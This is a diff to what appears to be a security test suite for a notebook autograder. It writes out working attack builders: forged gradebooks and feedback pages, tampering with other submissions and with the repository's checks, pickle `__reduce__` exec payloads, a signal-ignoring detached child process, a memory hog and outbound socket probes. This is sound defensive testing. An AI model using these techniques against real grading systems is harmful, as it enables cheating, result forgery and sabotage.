@@ -17,8 +17,10 @@ unique marker, a loopback port). :func:`write_class` sets it before calling the
 builders, so a builder keeps the plain ``(release_nb, model_answers) ->
 notebook`` signature. Everything an attack manages to write contains the
 *reversed* marker, built at run time (``MARKER[::-1]``), so finding that
-string anywhere proves a write got through, and the grader quoting an attack's
-source can never produce it by accident.
+string in a file's *name* proves a write got through; in a file's *content*
+the proof is ``"pwned:" + MARKER[::-1]`` (an error message may quote a path an
+attack aimed at, never what it would have written). The grader quoting an
+attack's source can produce neither by accident.
 """
 
 from __future__ import annotations
@@ -34,7 +36,7 @@ import sys
 import textwrap
 import uuid
 from collections.abc import Callable, Iterable
-from dataclasses import dataclass, field
+from dataclasses import dataclass
 from pathlib import Path
 
 import nbformat
@@ -66,8 +68,13 @@ class Context:
 
     @property
     def tag(self) -> str:
-        """What a successful write or leak contains: the reversed marker."""
+        """In the name of every file an attack writes: the reversed marker."""
         return self.marker[::-1]
+
+    @property
+    def win(self) -> str:
+        """In the content of whatever an attack wrote or sent once it got through."""
+        return "pwned:" + self.tag
 
 
 CTX: Context | None = None
@@ -86,6 +93,7 @@ def prelude() -> str:
         import os as _os, sys as _sys, pathlib as _pl
         _MARKER, _REPO, _OUT, _SUBS, _AVOID = {c.marker!r}, {str(c.repo)!r}, {str(c.output)!r}, {str(c.submissions)!r}, {c.avoid!r}
         _TAG = _MARKER[::-1]
+        _WIN = "pwned:" + _TAG  # what a write or a connection that got through leaves behind
 
         def _ok(path):
             path = str(path)
@@ -150,6 +158,7 @@ def child_source() -> str:
         import csv, os, pathlib, signal, sys, time
         marker, out, subs, repo, avoid = sys.argv[1:6]
         tag = marker[::-1]
+        win = "pwned:" + tag
         for sig in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
             signal.signal(sig, signal.SIG_IGN)
         ok = lambda p: not (avoid and str(p).startswith(avoid.rstrip("/") + "/"))
@@ -169,17 +178,21 @@ def child_source() -> str:
                 if row.get("max_points"):
                     row["points"] = row["max_points"]
                 row["total"] = row.get("max_total", "")
-                row["flags"] = "late-" + tag
+                row["flags"] = win
             with gradebook.open("w", newline="", encoding="utf-8") as handle:
                 writer = csv.DictWriter(handle, fieldnames=list(rows[0]))
                 writer.writeheader()
                 writer.writerows(rows)
         attempt(forge)
-        for folder in (out, subs, repo, "/tmp", os.getcwd()):
+        try:
+            here = os.getcwd()
+        except OSError:  # the grader deleted the folder this process was started in
+            here = "/tmp"
+        for folder in (out, subs, repo, "/tmp", here):
             if ok(folder + "/x"):
-                attempt(lambda: (pathlib.Path(folder) / ("late-" + tag + ".txt")).write_text("late " + tag))
+                attempt(lambda: (pathlib.Path(folder) / ("late-" + tag + ".txt")).write_text(win))
         for page in pathlib.Path(out).glob("feedback/*/*.html"):
-            attempt(lambda: page.write_text("<p>late " + tag + "</p>"))
+            attempt(lambda: page.write_text("<p>" + win + "</p>"))
         time.sleep(600)
         """)
 
@@ -224,9 +237,6 @@ def code_answer_ids(release: NotebookNode) -> list[str]:
     return [_gid(c) for c in release.cells if c.metadata.get("nbgrader", {}).get("solution") and c.cell_type == "code"]
 
 
-def graded_ids(release: NotebookNode) -> list[str]:
-    return [_gid(c) for c in release.cells if c.metadata.get("nbgrader", {}).get("grade")]
-
 
 def honest(release: NotebookNode, answers: dict, *except_ids: str) -> NotebookNode:
     """The release with every code answer set to the model answer, except ``except_ids`` (left as stubs)."""
@@ -244,9 +254,6 @@ def with_answer(grade_id: str, source: Callable[[dict], str], *, prelude_first: 
 
     return build
 
-
-def _tests_of(task: str) -> str:
-    return f"{task}-tests"
 
 
 # ----- builders that change cells and metadata ----------------------------------
@@ -494,12 +501,12 @@ for _out in _outs:
     _try("mkdir", lambda: _out.mkdir(parents=True, exist_ok=True))
     _try("gradebook", lambda: (_out / "gradebook.csv").write_text(
         "student,chapter,task,status,points,max_points,total,max_total,flags\\n"
-        f"a14-writeout,01-meet-the-corpus,task3-tests,autograded,2,2,11,11,{_TAG}\\n"))
+        f"a26-writeout,01-meet-the-corpus,task3-tests,autograded,2,2,11,11,{_WIN}\\n"))
     _try("manual", lambda: (_out / "manual-grades.csv").write_text(
-        f"student,chapter,task,points,comment\\na14-writeout,01-meet-the-corpus,task6-written,2,{_TAG}\\n"))
+        f"student,chapter,task,points,comment\\na26-writeout,01-meet-the-corpus,task6-written,2,{_WIN}\\n"))
     _try("page", lambda: (_out / "feedback" / "c01-model").mkdir(parents=True, exist_ok=True))
-    _try("page", lambda: (_out / "feedback" / "c01-model" / "01-meet-the-corpus.html").write_text(_TAG))
-    _try("file", lambda: (_out / f"pwned-{_TAG}.txt").write_text(_TAG))
+    _try("page", lambda: (_out / "feedback" / "c01-model" / "01-meet-the-corpus.html").write_text(_WIN))
+    _try("file", lambda: (_out / f"pwned-{_TAG}.txt").write_text(_WIN))
     _try("tmp", lambda: (_out / f".grading-tmp-{_TAG}").mkdir())
 print("wrote into", _outs)
 """
@@ -515,7 +522,7 @@ for _folder in _subs:
             continue
         def _spoil(_nb=_nb):
             data = _json.loads(_nb.read_text())
-            data["cells"].insert(0, {"cell_type": "markdown", "metadata": {}, "source": _TAG})
+            data["cells"].insert(0, {"cell_type": "markdown", "metadata": {}, "source": _WIN})
             _nb.write_text(_json.dumps(data))
         _try("spoil", _spoil)
     _try("ghost", lambda: (_folder / f"zz-{_TAG}" / "01-meet-the-corpus").mkdir(parents=True, exist_ok=True))
@@ -529,15 +536,15 @@ def _write_repository(answers):
 import importlib as _importlib, json as _json
 for _root in _roots():
     _checks = _root / "framelab" / "checks.py"
-    _try("checks", lambda: _checks.write_text(_checks.read_text() + f"\\n_fail = lambda *a, **k: None  # {_TAG}\\n"))
+    _try("checks", lambda: _checks.write_text(_checks.read_text() + f"\\n_fail = lambda *a, **k: None  # {_WIN}\\n"))
     _nb = _root / "solutions" / "01-meet-the-corpus" / "01-meet-the-corpus.ipynb"
     def _edit(_nb=_nb):
         data = _json.loads(_nb.read_text())
-        data["cells"].append({"cell_type": "markdown", "metadata": {}, "source": _TAG})
+        data["cells"].append({"cell_type": "markdown", "metadata": {}, "source": _WIN})
         _nb.write_text(_json.dumps(data, indent=1))
     _try("solutions", _edit)
-    _try("new file", lambda: (_root / "solutions" / f"{_TAG}.txt").write_text(_TAG))
-    _try("new file", lambda: (_root / f"pwned-{_TAG}.txt").write_text(_TAG))
+    _try("new file", lambda: (_root / "solutions" / f"{_TAG}.txt").write_text(_WIN))
+    _try("new file", lambda: (_root / f"pwned-{_TAG}.txt").write_text(_WIN))
 import framelab.checks
 _try("reload", lambda: _importlib.reload(framelab.checks))
 print("roots", _roots())
@@ -573,7 +580,6 @@ for _out in _outs:
 
 
 def _detached_popen(answers):
-    c = _ctx()
     return WRONG_SHARE + f"""
 import subprocess as _subprocess
 _child = {child_source()!r}
@@ -600,16 +606,11 @@ print("forked")
 """
 
 
-def _model_body(answers: dict, grade_id: str) -> str:
-    """The model answer's function body lines (after the signature and docstring), for reuse."""
-    return answers[grade_id]
-
 
 def _memory(answers):
     return """
 def boilerplate_share(article):
-    hog = bytearray(2 * 1024**3)
-    hog[::4096] = b"x" * len(hog[::4096])
+    hog = bytearray(2 * 1024**3)  # zero-filled: every page is touched
     cleaned = clean(article.raw).text
     return 1 - len(cleaned) / len(article.raw) + 0 * len(hog)
 """
@@ -675,8 +676,8 @@ def _socket_local(answers):
 import socket as _socket
 def _call():
     with _socket.create_connection(("127.0.0.1", {c.port}), timeout=3) as s:
-        s.sendall(("hello " + _TAG).encode())
-        print("net-" + _TAG)
+        s.sendall(_WIN.encode())
+        print(_WIN, "loopback")
 _try("loopback", _call)
 """
 
@@ -686,7 +687,7 @@ def _socket_public(answers):
 import socket as _socket
 def _call(address):
     with _socket.create_connection(address, timeout=3) as s:
-        print("net-" + _TAG, address)
+        print(_WIN, address)
 for _address in [("1.1.1.1", 443), ("8.8.8.8", 53), ("pypi.org", 443)]:
     _try(f"connect {_address}", lambda: _call(_address))
 """
@@ -823,13 +824,13 @@ import pathlib as _p
 def _mark(how):
     for folder in (_OUT, "/tmp"):
         try:
-            (_p.Path(folder) / f"judge-{_TAG}-{how}.txt").write_text(how)
+            (_p.Path(folder) / f"judge-{_TAG}-{how}.txt").write_text(_WIN)
         except Exception:
             pass
 
 class Count(int):
     def __reduce__(self):
-        return (exec, (f"import pathlib; pathlib.Path({_OUT!r}, 'judge-{_TAG}-reduce.txt').write_text('x')",))
+        return (exec, (f"import pathlib; pathlib.Path({_OUT!r}, 'judge-{_TAG}-reduce.txt').write_text({_WIN!r})",))
     def __repr__(self):
         _mark("repr"); return "3"
     def __format__(self, spec):
@@ -849,7 +850,7 @@ def _evil_dataframe(answers):
     return answers["task6-answer"].replace("    return shares", """\
     class Evil:
         def __reduce__(self):
-            return (exec, (f"import pathlib; pathlib.Path({_OUT!r}, 'judge-{_TAG}-frame.txt').write_text('x')",))
+            return (exec, (f"import pathlib; pathlib.Path({_OUT!r}, 'judge-{_TAG}-frame.txt').write_text({_WIN!r})",))
         def __eq__(self, other):
             return True
     shares["evil"] = [Evil() for _ in range(len(shares))]
@@ -917,6 +918,8 @@ _CODE01 = ("task1-tests", "task2-tests", "task3-tests", "task4-tests", "task5-te
 _BUT3 = ("task1-tests", "task2-tests", "task4-tests", "task5-tests")
 _BEFORE3 = ("task1-tests", "task2-tests")
 KILLED = r"process\(es\) .*killed"
+OWN_CLASS = r"returned an object of its own class|uses its own __eq__"  # the wire refuses it, or the scan saw it
+SCANNED = r"answer cell task3-answer (uses|redefines|changes) "  # the scan flagged the hostile cell at all
 
 
 def _a(name, student, what, build, chapter=FIRST, **kw) -> Attack:
@@ -936,7 +939,7 @@ ATTACKS: list[Attack] = [
        _skip_tags, zero=_CODE01, flags=r"metadata of cell task1-tests was changed"),
     _a("points raised", "a02-points", "test cells' nbgrader points raised to 100 (task 1 right, task 3 a stub)",
        _points_raised, zero=("task3-tests",), keep=("task1-tests", "task2-tests", "task4-tests", "task5-tests"),
-       flags=r"metadata of cell task1-tests was changed", flag_row="task1-tests"),
+       flags=r"metadata of cell task1-tests was changed|read-only cell task1-tests was edited", flag_row="task1-tests"),
     _a("grade false", "a03-gradefalse", 'task 1 test cell marked "grade": false, task 1 unanswered',
        _grade_false, zero=("task1-tests",), keep=("task2-tests", "task3-tests", "task4-tests", "task5-tests"),
        flags=r"metadata of cell task1-tests was changed"),
@@ -973,27 +976,27 @@ ATTACKS: list[Attack] = [
        keep=("task1-tests", "task2-tests", "task3-tests", "task4-tests"), flags=r"uses .*(\bIn\b|_ih|history)"),
     # Objects that lie
     _t3("float that equals anything", "a16-eqfloat", "returns a float subclass whose ==, <, abs, - always agree",
-        _liar_float, flags=r"returned an object of its own class"),
+        _liar_float, flags=OWN_CLASS),
     _a("list that equals anything", "a17-eqlist", "task 5 returns a list subclass whose __eq__ is always True",
        with_answer("task5-answer", _liar_list), zero=("task5-tests",),
-       keep=("task1-tests", "task2-tests", "task3-tests", "task4-tests"), flags=r"returned an object of its own class"),
+       keep=("task1-tests", "task2-tests", "task3-tests", "task4-tests"), flags=OWN_CLASS),
     _a("str that equals anything", "a18-eqstr", "chapter 09 task 3 returns a str subclass whose __eq__ is always True",
        with_answer("task3-answer", _liar_str), chapter="09-framing-explorer", zero=("task3-tests",),
-       keep=("task1-tests", "task2-tests", "task4-tests", "task5-tests"), flags=r"returned an object of its own class"),
+       keep=("task1-tests", "task2-tests", "task4-tests", "task5-tests"), flags=OWN_CLASS),
     _a("dict that equals anything", "a19-eqdict", "chapter 08 task 1 returns a dict subclass of always-equal values",
        with_answer("task1-answer", _liar_dict), chapter="08-visualizing", zero=("task1-tests",),
        keep=("task2-tests", "task3-tests", "task4-tests", "task5-tests", "task6-tests"),
-       flags=r"returned an object of its own class"),
+       flags=OWN_CLASS),
     _a("widget of its own class", "a20-eqwidget", "chapter 09 task 2 swaps the view's class for one whose value equals anything",
        with_answer("task2-answer", _liar_widget), chapter="09-framing-explorer", zero=("task2-tests",),
        keep=("task1-tests", "task3-tests", "task4-tests", "task5-tests"),
-       flags=r"returned an object of its own class|uses .*(__class__|__eq__|__getattribute__)"),
+       flags=OWN_CLASS + r"|uses .*(__class__|__getattribute__)"),
     _a("int with a payload", "a21-evilint", "task 2 returns an int subclass whose __reduce__/__repr__/__eq__ write files",
        with_answer("task2-answer", _evil_object), zero=("task2-tests",),
-       keep=("task1-tests", "task3-tests", "task4-tests", "task5-tests"), flags=r"returned an object of its own class"),
+       keep=("task1-tests", "task3-tests", "task4-tests", "task5-tests"), flags=OWN_CLASS),
     _a("DataFrame with a payload", "a22-evilframe", "chapter 08 task 6 returns a DataFrame holding objects with __reduce__",
        with_answer("task6-answer", _evil_dataframe), chapter="08-visualizing", zero=("task6-tests",),
-       keep=("task1-tests", "task2-tests", "task3-tests", "task4-tests", "task5-tests")),
+       keep=("task1-tests", "task2-tests", "task3-tests", "task4-tests", "task5-tests"), flags=OWN_CLASS + r"|uses exec"),
     # Secrets
     _t3("solutions from the working directory", "a23-huntcwd", "walks up from the cwd to solutions/, prints hidden tests, execs the model answer",
         _hunt_cwd, flags=r"uses .*(exec|reading files|os\.walk|outside the corpus)"),
@@ -1003,15 +1006,15 @@ ATTACKS: list[Attack] = [
         _environ, flags=r"uses .*os\.environ"),
     # Writing where it must not
     _t3("write into the output folder", "a26-writeout", "forges gradebook.csv, manual-grades.csv and a feedback page in OUT",
-        _write_output, flags=r"uses .*(reading files|writ|open|/proc|outside the corpus)"),
+        _write_output, flags=SCANNED),
     _t3("write into other submissions", "a27-writesubs", "edits every other submitted notebook and adds a ghost student",
-        _write_submissions, flags=r"uses .*(reading files|writ|open|/proc|outside the corpus)"),
+        _write_submissions, flags=SCANNED),
     _t3("write into the repository", "a28-writerepo", "appends `_fail = no-op` to framelab/checks.py, edits solutions/, reloads",
-        _write_repository, flags=r"uses .*(importlib|reading files|writ|open|outside the corpus)"),
+        _write_repository, flags=SCANNED),
     _t3("write into a gradebook database", "a29-writedb", "rewrites every *.db it finds (nbgrader tests -> pass)",
-        _write_database, flags=r"uses .*(sqlite3|reading files|writ|open|outside the corpus)"),
+        _write_database, flags=SCANNED),
     _t3("seeds deleted", "a30-seeds", "deletes every file of framelab.corpus.SEEDS", _delete_seeds,
-        flags=r"uses .*(unlink|remov|delet|reading files|outside the corpus)"),
+        flags=SCANNED),
     # Processes
     _t3("detached Popen child", "a31-popen", "Popen(start_new_session=True) child that ignores SIGTERM, waits, forges results",
         _detached_popen, flags=KILLED + r"|uses .*subprocess"),
@@ -1056,11 +1059,11 @@ ATTACKS: list[Attack] = [
     _a("framelab.plots patched", "a50-plots", "chapter 08 task 2: wrong positions(), plots.term_positions set to it",
        with_answer("task2-answer", _monkey_plots), chapter="08-visualizing", zero=("task2-tests",),
        keep=("task1-tests", "task3-tests", "task4-tests", "task5-tests", "task6-tests"),
-       flags=r"redefines .*(plots|term_positions)|uses .*(framelab\.plots|term_positions)"),
+       flags=r"redefines .*(plots|term_positions)|uses .*(framelab\.plots|term_positions)|changes .*plots\.term_positions"),
     _a("matplotlib patched", "a51-mpl", "chapter 08 task 3: cut y axis, Axes.get_ylim patched to say it starts at 0",
        with_answer("task3-answer", _monkey_matplotlib), chapter="08-visualizing", zero=("task3-tests",),
        keep=("task1-tests", "task2-tests", "task4-tests", "task5-tests", "task6-tests"),
-       flags=r"uses .*(matplotlib|get_ylim|Axes)|redefines"),
+       flags=r"uses .*(matplotlib|get_ylim|Axes)|redefines|changes .*Axes\.get_ylim"),
     _t3("builtins patched", "a52-builtins", "builtins.isinstance and abs replaced when the test calls the function",
         _builtins, keep=_BEFORE3, flags=r"uses .*builtins|redefines (isinstance|abs)"),
     _t3("sys.modules['framelab.checks']", "a53-sysmodules", "a fake framelab.checks in sys.modules, re-imported",
@@ -1207,30 +1210,32 @@ def _page_texts(text: str) -> tuple[str, ...]:
 def leaks(output: Path, submitted: dict[str, Path]) -> list[str]:
     """Hidden-test and model-answer lines found in feedback pages or gradebook cells.
 
-    A model-answer line the student submitted (their own code) does not count
-    on their own page; a hidden-test line always does, and so does "BEGIN HIDDEN".
+    A secret line that occurs in the student's own submission (their own code,
+    e.g. the model answer they handed in) does not count on their own page or
+    rows; any other does, and so does "BEGIN HIDDEN" anywhere.
     """
     hidden, model = secret_lines()
     found = []
+    own_text: dict[str, str] = {}
 
-    def own(student: str) -> set[str]:
-        path = submitted.get(student)
-        if path is None or not path.exists():
-            return set()
-        return {line.strip() for line in path.read_text(encoding="utf-8", errors="replace").splitlines()} | {
-            line.strip() for c in nbformat.read(path, as_version=4).cells for line in c.source.splitlines()}
+    def own(student: str) -> str:
+        if student not in own_text:
+            path = submitted.get(student)
+            text = ""
+            if path is not None and path.exists():
+                text = "\n".join(c.source for c in nbformat.read(path, as_version=4).cells)
+            own_text[student] = text
+        return own_text[student]
 
     def scan(where: str, text: str, student: str) -> None:
         texts = _page_texts(text)
         if any("BEGIN HIDDEN" in t for t in texts):
             found.append(f"{where}: 'BEGIN HIDDEN'")
-        for line in hidden:
-            if any(line in t for t in texts):
-                found.append(f"{where}: hidden test line {line!r}")
         mine = own(student)
-        for line in model - mine:
-            if any(line in t for t in texts):
-                found.append(f"{where}: model answer line {line!r}")
+        for kind, lines in (("hidden test", hidden), ("model answer", model)):
+            for line in lines:
+                if line not in mine and any(line in t for t in texts):
+                    found.append(f"{where}: {kind} line {line!r}")
 
     for page in sorted((Path(output) / "feedback").glob("*/*.html")):
         scan(str(page.relative_to(output)), page.read_text(encoding="utf-8", errors="replace"), page.parent.name)
@@ -1314,8 +1319,9 @@ def kill_processes(pids: Iterable[int]) -> None:
 
 
 def written_traces(context: Context, places: Iterable[Path]) -> list[str]:
-    """Files under ``places`` whose name or content holds the reversed marker (a write that got through)."""
-    tag = context.tag.encode()
+    """Files under ``places`` named after the reversed marker, or holding ``context.win`` (a write or a
+    connection that got through: an attack prints it when it connects, and writes it into what it forges)."""
+    tag = context.win.encode()
     found = []
     for place in places:
         place = Path(place)
